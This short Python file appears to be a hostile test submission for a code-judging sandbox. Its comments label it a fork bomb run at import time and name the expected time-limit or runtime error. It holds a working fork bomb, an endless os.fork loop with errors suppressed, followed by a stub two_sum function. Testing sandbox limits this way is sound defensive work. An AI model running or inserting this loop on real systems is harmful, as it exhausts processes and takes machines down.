# attack: a fork bomb at import time
# expect: TLE RE
# local: unsafe: no process-count limit on the host; a fork bomb would take the machine down
import os

while True:
    try:
        os.fork()
    except OSError:
        pass


def two_sum(nums, target):
    return [0, 1]
